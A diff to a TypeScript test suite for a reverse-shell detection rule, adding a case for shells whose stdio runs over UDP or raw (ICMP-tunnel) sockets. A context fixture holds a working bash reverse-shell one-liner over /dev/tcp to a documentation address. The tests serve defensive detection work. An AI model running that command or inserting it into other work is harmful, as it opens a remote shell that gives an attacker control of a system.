@@ -217,6 +217,13 @@ describe('system.reverse_shell', () => {
     expect(alert!.summary).toBe('sh has its stdin/stdout/stderr on a tcp socket to 10.0.0.9:4444');
   });
 
+  it('fires on a shell whose stdio is a connected UDP socket, or any raw socket (an ICMP tunnel)', () => {
+    const udp = { fd: 0, protocol: 'udp' as const, local: '172.17.0.2:40000', remote: '203.0.113.9:53', state: 'ESTABLISHED' };
+    const icmp = { fd: 1, protocol: 'raw' as const, local: '0.0.0.0:1', remote: '0.0.0.0:0', state: 'CLOSE' };
+    const alerts = run([procSnapshot({ pid: 20, exe: '/bin/sh', cmdline: ['sh'] }, [udp]), procSnapshot({ pid: 21, exe: '/bin/bash', cmdline: ['bash'] }, [icmp])]);
+    expect(alerts.map((a) => a.summary)).toEqual(['sh has its stdin on a udp socket to 203.0.113.9:53', 'bash has its stdout on an unconnected raw socket']);
+  });
+
   it('fires on known reverse-shell command lines', () => {
     const alerts = run([
       auditExec({ exe: '/bin/bash', cmdline: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] }),
